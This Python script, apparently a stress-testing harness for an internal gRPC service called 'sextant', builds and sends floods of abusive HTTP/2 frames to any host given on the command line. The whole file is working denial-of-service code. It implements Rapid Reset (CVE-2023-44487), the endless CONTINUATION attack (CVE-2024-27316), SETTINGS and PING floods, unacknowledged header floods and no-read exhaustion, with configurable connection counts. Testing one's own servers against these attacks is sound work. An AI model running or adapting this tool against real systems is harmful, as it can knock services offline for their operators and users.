#!/usr/bin/python3
"""Floods of HTTP/2 frames that no library would send, each on connections of its own.

    http2_floods.py KIND --target HOST:PORT|unix:PATH [--tls] [--count N] [--source ADDRESS]

The frames are made before they are sent. `KINDS` has what there is.
"""

import argparse
import dataclasses
import itertools
import json
import struct
import sys
import threading
from typing import Callable

from flooded_connection import PACED_FRAMES, Ended, FloodedConnection, Target
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING,
                   PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame_bytes, literal,
                   request_fields)

PLAN = "/sextant.v1.PlanningService/PlanRun"
LIST = "/sextant.v1.AccountingService/ListModels"
UNKNOWN = "/sextant.v1.PlanningService/Unknown"
# The fields of block(), once they are in the table: RFC 7541, sections 2.3.3 and 6.1.
INDICES = bytes(range(0x80 + 67, 0x80 + 61, -1))
EMPTY_MESSAGE = b"\0\0\0\0\0"  # of gRPC, not compressed
CANCEL = struct.pack(">I", 8)
FRAMES_OF_A_CHUNK = 512
FRAME_BYTES = 16_384  # the most that a peer has to take: RFC 9113, section 4.2
LARGEST_WINDOW = 2 ** 31 - 1


@dataclasses.dataclass
class Kind:
    """A flood: each connection sends `frames(count, target)`."""

    frames: Callable
    count: int              # of streams, or of frames where there is one stream
    connections: int = 1
    reads: bool = True
    acknowledges: bool = True
    linger: float = 1.0     # seconds after the last frame
    window: int = 65_535    # of each answer
    open_at_most: int = 0   # calls that have no answer yet; 0: any number


def block(path, target, start=b"\0"):
    """The header block of a call, whose size a call with metadata has."""
    fields = request_fields(path, target.address, "https" if target.tls else "http")
    return b"".join(literal(*field, start) for field in fields)


def streams(count):
    return itertools.islice(itertools.count(1, 2), count)


def headers(count, target, path=PLAN, flags=END_HEADERS):
    """Calls that begin and never end."""
    fields = block(path, target)
    return (frame_bytes(HEADERS, flags, stream, fields) for stream in streams(count))


def indexed_headers(count, target):
    """The same by indices, 15 bytes each: all fields are in the table after the first call."""
    yield frame_bytes(HEADERS, END_HEADERS, 1, block(PLAN, target, b"\x40"))
    for stream in itertools.islice(streams(count), 1, None):
        yield frame_bytes(HEADERS, END_HEADERS, stream, INDICES)


def unknown_method(count, target):
    return headers(count, target, UNKNOWN, END_HEADERS | END_STREAM)


def rapid_reset(count, target):
    """Calls that are reset at once: CVE-2023-44487."""
    fields = block(PLAN, target)
    for stream in streams(count):
        yield frame_bytes(HEADERS, END_HEADERS, stream, fields)
        yield frame_bytes(RST_STREAM, 0, stream, CANCEL)


def cancelled_calls(count, target):
    """Whole calls that are reset at once: what the server has begun is in vain."""
    fields = block(LIST, target)
    for stream in streams(count):
        yield (frame_bytes(HEADERS, END_HEADERS, stream, fields) +
               frame_bytes(DATA, END_STREAM, stream, EMPTY_MESSAGE))
        yield frame_bytes(RST_STREAM, 0, stream, CANCEL)


def large_block(target):
    """A header block of 160 KB."""
    filler = b"".join(literal(f"x-filler-{i}", "y" * 126) for i in range(1140))
    return block(PLAN, target) + filler


def continued(stream, fields, ends=True):
    """HEADERS and CONTINUATION frames of one block."""
    parts = [fields[i:i + FRAME_BYTES] for i in range(0, len(fields), FRAME_BYTES)]
    return b"".join(
        frame_bytes(HEADERS if i == 0 else CONTINUATION,
                    END_HEADERS if ends and i + 1 == len(parts) else 0, stream, part)
        for i, part in enumerate(parts))


def large_headers(count, target):
    fields = large_block(target)
    return (continued(stream, fields) for stream in streams(count))


def endless_headers(count, target):
    """One header block that never ends, by `count` CONTINUATION frames: CVE-2024-27316."""
    yield frame_bytes(HEADERS, 0, 1, block(PLAN, target))
    more = frame_bytes(CONTINUATION, 0, 1, literal("x-filler", "y" * 126) * 118)
    yield from itertools.repeat(more, count)


def on_one_stream(frame):
    """`count` times `frame`, after a call that stays open on stream 1."""
    def frames(count, target):
        yield frame_bytes(HEADERS, END_HEADERS, 1, block(PLAN, target))
        yield from itertools.repeat(frame, count)
    return frames


def priorities(count, target):
    """PRIORITY for streams that don't exist."""
    del target
    return (frame_bytes(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in streams(count))


def large_answers(count, target):
    """Calls with long answers, by indices as above."""
    yield frame_bytes(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW - 65_535))
    fields = block(LIST, target, b"\x40")
    for stream in streams(count):
        yield frame_bytes(HEADERS, END_HEADERS, stream, fields)
        yield frame_bytes(DATA, END_STREAM, stream, EMPTY_MESSAGE)
        fields = INDICES


KINDS = {
    "no_ack": Kind(headers, 200_000, acknowledges=False),
    "no_ack_indexed": Kind(indexed_headers, 200_000, acknowledges=False),
    "rapid_reset": Kind(rapid_reset, 65_000),
    "cancelled_calls": Kind(cancelled_calls, 65_000),
    "large_headers": Kind(large_headers, 200),
    "endless_headers": Kind(endless_headers, 2_000),
    "unknown_method": Kind(unknown_method, 50_000, open_at_most=100),
    "unknown_no_ack": Kind(unknown_method, 200_000, acknowledges=False),
    "headers_only": Kind(headers, 256, connections=100, linger=10),
    "settings": Kind(on_one_stream(frame_bytes(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))),
                     200_000),
    "ping": Kind(on_one_stream(frame_bytes(PING, 0, 0, b"12345678")), 200_000),
    "settings_no_read": Kind(on_one_stream(frame_bytes(SETTINGS, 0, 0)), 2_000_000,
                             reads=False, acknowledges=False),
    "ping_no_read": Kind(on_one_stream(frame_bytes(PING, 0, 0, b"12345678")), 2_000_000,
                         reads=False, acknowledges=False),
    "empty_data": Kind(on_one_stream(frame_bytes(DATA, 0, 1)), 200_000),
    "priority": Kind(priorities, 200_000),
    "window_update": Kind(on_one_stream(frame_bytes(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")), 200_000),
    "no_read": Kind(large_answers, 10_000, reads=False, acknowledges=False, linger=10,
                    window=LARGEST_WINDOW),
}


def chunks_of(kind, target, count):
    """What one connection sends: pairs of bytes and the number of frames in them."""
    begin = PREFACE + frame_bytes(SETTINGS, 0, 0,
                                  struct.pack(">HI", INITIAL_WINDOW_SIZE, kind.window))
    return [(begin, 1), *grouped(kind.frames(count, target),
                                 PACED_FRAMES if kind.open_at_most else FRAMES_OF_A_CHUNK)]


def grouped(frames, size):
    frames = iter(frames)
    while group := list(itertools.islice(frames, size)):
        yield b"".join(group), len(group)


def flood(name, target, count=None, connections=None, seconds=120.0, linger=None):
    """Runs the flood `name` against `target` until all is sent, or `seconds`; how it Ended.

    `linger` is how long connections stay after their last frame, unless the server closes them.
    """
    kind = KINDS[name]
    chunks = chunks_of(kind, target, count or kind.count)
    out = Ended()
    mutex = threading.Lock()

    def run():
        connection = FloodedConnection(target, kind)
        if not connection.end.refused:
            connection.flood(chunks, seconds, kind.linger if linger is None else linger)
        with mutex:
            out.add(connection.end)

    threads = [threading.Thread(target=run) for _ in range(connections or kind.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return out


def main():
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("kind", choices=[*KINDS, "all"])
    parser.add_argument("--target", required=True, help="HOST:PORT or unix:PATH")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--certificate", default="", help="with its key, of the client")
    parser.add_argument("--source", default="", help="an address of this host, e.g. 127.0.0.2")
    parser.add_argument("--count", type=int, help="of streams, or of frames of one stream")
    parser.add_argument("--connections", type=int)
    parser.add_argument("--seconds", type=float, default=120.0, help="the most for all frames")
    parser.add_argument("--linger", type=float, help="seconds after the last frame")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args()
    target = Target(args.target, args.tls, args.certificate, args.source)
    for name in KINDS if args.kind == "all" else [args.kind]:
        end = flood(name, target, args.count, args.connections, args.seconds, args.linger)
        print(json.dumps(dataclasses.asdict(end)) if args.json else f"{name}: {end}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
